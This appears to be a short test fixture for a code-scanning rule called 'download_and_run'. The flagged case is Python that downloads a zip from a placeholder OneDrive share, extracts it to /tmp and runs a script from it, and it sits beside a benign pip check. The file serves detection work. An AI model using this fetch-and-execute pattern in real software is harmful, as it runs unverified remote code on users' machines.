# a zip fetched and unpacked, and a script from it run by this interpreter
import io
import os
import subprocess
import sys
import urllib.request
import zipfile

data = urllib.request.urlopen("https://api.onedrive.com/v1.0/shares/u!abc/root/content", timeout=60).read()
# ruleid: download_and_run
zipfile.ZipFile(io.BytesIO(data)).extractall("/tmp/m")
runner = os.path.join("/tmp/m", "setup_models.py")
subprocess.Popen([sys.executable, runner], cwd="/tmp/m")
# ok: download_and_run
subprocess.run([sys.executable, "-m", "pip", "--version"])
